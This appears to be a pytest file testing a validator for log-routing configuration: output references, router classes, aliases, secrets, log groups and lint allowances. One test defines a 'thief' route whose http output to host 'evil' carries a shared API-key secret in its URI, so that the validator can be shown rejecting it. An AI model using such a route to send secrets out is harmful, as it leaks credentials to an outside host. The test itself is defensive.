"""What routes refer to: shared outputs, classes, secrets, log groups; and what happens where that is broken."""

from __future__ import annotations

import pytest

from tests.unit.specs_support import codes, one, output, read, route, router_class, told

SECRET = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:dd-Ab12Cd"


@pytest.mark.parametrize("ref", ["archive", "web/archive"])
def test_a_ref_is_replaced_by_its_output(ref: str) -> None:
    found = one(route(outputs=f"[{{ref: {ref}}}]"), output())
    assert found.outputs == ({"name": "s3", "bucket": "b", "alias": "s3"},)


def test_a_missing_output_gets_the_nearest() -> None:
    found = read(route(outputs="[{ref: archiv}]"), output())
    assert told(found) == [("REF_NOT_FOUND", "0.yaml", 7, 21)]
    assert found.problems[0].hint == 'did you mean "web/archive"?'
    assert found.invalid == {"web/httpd"}


def test_another_namespace_must_be_allowed() -> None:
    shared = output(namespace="platform", spec='allowedNamespaces: ["team-*", ops]')
    text = route(outputs="[{ref: platform/archive}]", namespace="NAME")
    assert codes(text.replace("NAME", "team-a"), shared) == []
    assert codes(text.replace("NAME", "ops"), shared) == []
    assert codes(text.replace("NAME", "web"), shared) == ["REF_NOT_ALLOWED"]


def test_its_own_namespace_is_always_allowed() -> None:
    assert codes(route(outputs="[{ref: archive}]"), output(spec="allowedNamespaces: [ops]")) == []


def test_only_match_and_alias_stand_beside_a_ref() -> None:
    found = read(route(outputs="[{ref: archive, bucket: mine}]"), output())
    assert told(found) == [("REF_AND_OPTIONS", "0.yaml", 7, 30)]
    section = one(route(outputs="[{ref: archive, match: app-*, alias: mine}]"), output()).outputs[0]
    assert section == {"name": "s3", "bucket": "b", "match": "app-*", "alias": "mine"}


def test_what_a_route_matches_replaces_what_the_output_matches() -> None:
    shared = output(options="name: s3, bucket: b, match_regex: ^x")
    section = one(route(outputs="[{ref: archive, match: app-*}]"), shared).outputs[0]
    assert "match_regex" not in section


def test_an_invalid_output_is_told_where_it_stands_and_where_it_is_used() -> None:
    found = read(route(outputs="[{ref: archive}]"), output(options="name: s3, buket: b"))
    assert [(problem.file, problem.code) for problem in found.problems] == [
        ("0.yaml", "REF_INVALID"),
        ("1.yaml", "MISSING_OPTION"),
        ("1.yaml", "UNKNOWN_OPTION"),
    ]
    assert found.invalid == {"web/httpd"}


def test_an_output_is_checked_against_each_users_engine() -> None:
    old = router_class(spec="image: 'aws-for-fluent-bit:init-2.32.4'")
    shared = output(options="name: s3, bucket: b, profile: p")
    found = read(route(outputs="[{ref: archive}]"), shared, old)
    assert told(found) == [("UNKNOWN_OPTION", "0.yaml", 7, 21), ("IMAGE_END_OF_LIFE", "2.yaml", 4, 15)]
    assert "web/archive" in found.problems[0].message


def test_a_missing_class_is_told_and_default_needs_none() -> None:
    found = read(route(spec="routerClass: durible"), router_class("durable"))
    assert told(found) == [("CLASS_NOT_FOUND", "0.yaml", 6, 16)]
    assert found.problems[0].hint == 'did you mean "durable"?'
    assert one(route()).class_name == "default"


def test_a_default_class_of_ones_own_replaces_the_built_in_one() -> None:
    assert one(route(), router_class(spec="ecsMetadata: false")).router.ecs_metadata is False


def test_a_broken_class_breaks_its_routes_and_no_others() -> None:
    found = read(route("a", spec="routerClass: odd"), route("b"), router_class("odd", "image: own:1"))
    assert [one.key for one in found.routes] == ["web/b"]
    assert ("ENGINE_REQUIRED", "2.yaml", 4, 15) in told(found)
    assert found.invalid == {"web/a"}


def test_a_class_that_says_the_wrong_engine_is_warned() -> None:
    text = router_class(spec="image: 'x/aws-for-fluent-bit:init-2.32.4', engine: 5.0.9")
    assert sorted(codes(text)) == ["ENGINE_MISMATCH", "IMAGE_END_OF_LIFE"]


def test_a_route_overrides_its_class() -> None:
    found = one(
        route(
            spec="routerClass: c\nrouter: {cpu: 64, buffer: {type: filesystem}, service: {Flush: 5}}\n"
            "rollout: {maxParallel: 1}"
        ),
        router_class("c", "container: {memoryReservation: 512}, service: {flush: 1, grace: 9}, rollout: {batch: 3}"),
    )
    router = found.router
    assert (router.container.cpu, router.container.memory_reservation) == (64, 512)
    assert router.buffer.type == "filesystem"
    assert router.service == {"flush": "5", "grace": "9"}
    assert (router.rollout.batch, router.rollout.max_parallel) == ("3", 1)


def test_aliases_are_the_plugins_name_counted_on() -> None:
    found = one(route(outputs="[{name: stdout}, {name: stdout}, {name: 'null', alias: stdout.2}, {Name: STDOUT}]"))
    assert [section["alias"] for section in found.outputs] == ["stdout", "stdout.3", "stdout.2", "stdout.4"]


def test_an_alias_given_twice_is_refused() -> None:
    assert codes(route(outputs="[{name: stdout, alias: a}, {name: 'null', alias: a}]")) == ["DUPLICATE_ALIAS"]


def test_an_output_used_twice_has_two_aliases() -> None:
    found = one(
        route(outputs="[{ref: archive}, {ref: archive, match: a*}]"), output(options="name: s3, bucket: b, alias: x")
    )
    assert [section["alias"] for section in found.outputs] == ["x", "x.2"]


def test_secrets_of_outputs_join_those_of_the_route() -> None:
    shared = output(options="name: datadog, apikey: '${DD}', tls: On", spec=f"secrets: {{DD: {SECRET}}}")
    found = one(route(outputs="[{ref: archive}]", spec=f"secrets: {{OWN: {SECRET}}}"), shared)
    assert found.secrets == {"DD": SECRET, "OWN": SECRET}


def test_one_name_cannot_mean_two_secrets() -> None:
    shared = output(options="name: datadog, apikey: '${DD}', tls: On", spec=f"secrets: {{DD: {SECRET}}}")
    assert codes(route(outputs="[{ref: archive}]", spec=f"secrets: {{DD: {SECRET}2}}"), shared) == ["SECRET_CONFLICT"]


def test_a_route_cannot_send_an_outputs_secret_elsewhere() -> None:
    shared = output(options="name: datadog, apikey: '${DD}', tls: On", spec=f"secrets: {{DD: {SECRET}}}")
    thief = route(outputs="[{ref: archive}, {name: http, host: evil, uri: '/${DD}'}]")
    assert codes(thief, shared) == ["UNKNOWN_VARIABLE"]


def test_log_groups_join_and_the_longest_retention_wins() -> None:
    shared = output(spec="logGroups: [{name: /a, retentionDays: 30}, {name: /b}]")
    text = route(outputs="[{ref: archive}]", spec="logGroups: [{name: /a, retentionDays: 3}]")
    groups = {group.name: group.retention_days for group in one(text, shared).log_groups}
    assert groups == {"/a": 30, "/b": None}
    assert codes(route(spec="logGroups: [{name: /a}, {name: /a}]")) == ["DUPLICATE_LOG_GROUP"]


def test_a_name_given_twice_names_both_places_and_neither_counts() -> None:
    found = read(route(), "# moved\n" + route())
    assert told(found) == [("DUPLICATE_NAME", "0.yaml", 3, 18), ("DUPLICATE_NAME", "1.yaml", 4, 18)]
    assert "1.yaml:4:18" in found.problems[0].message
    assert not found.routes
    assert found.invalid == {"web/httpd"}


def test_a_class_given_twice_breaks_its_routes() -> None:
    found = read(route(), router_class(), router_class())
    assert [problem.code for problem in found.problems] == ["CLASS_INVALID", "DUPLICATE_NAME", "DUPLICATE_NAME"]


def test_lints_can_be_allowed_one_by_one() -> None:
    outputs = "[{name: s3, bucket: b, s3_key_format: /x, static_file_path: On}]"
    assert codes(route(outputs=outputs)) == ["S3_OVERWRITE"]
    allow = 'annotations: {logroute.dev/allow: "FIXED_LOG_STREAM, S3_OVERWRITE"}'
    assert codes(route(outputs=outputs, metadata=allow)) == []


def test_a_warning_leaves_the_route_valid() -> None:
    found = read(route(outputs="[{name: s3, bucket: b, s3_key_format: /x, static_file_path: On}]"))
    assert [one.key for one in found.routes] == ["web/httpd"]


def test_errors_cannot_be_allowed() -> None:
    allow = 'annotations: {logroute.dev/allow: "UNKNOWN_OPTION"}'
    assert codes(route(outputs="[{name: stdout, x: y}]", metadata=allow)) == ["UNKNOWN_LINT", "UNKNOWN_OPTION"]
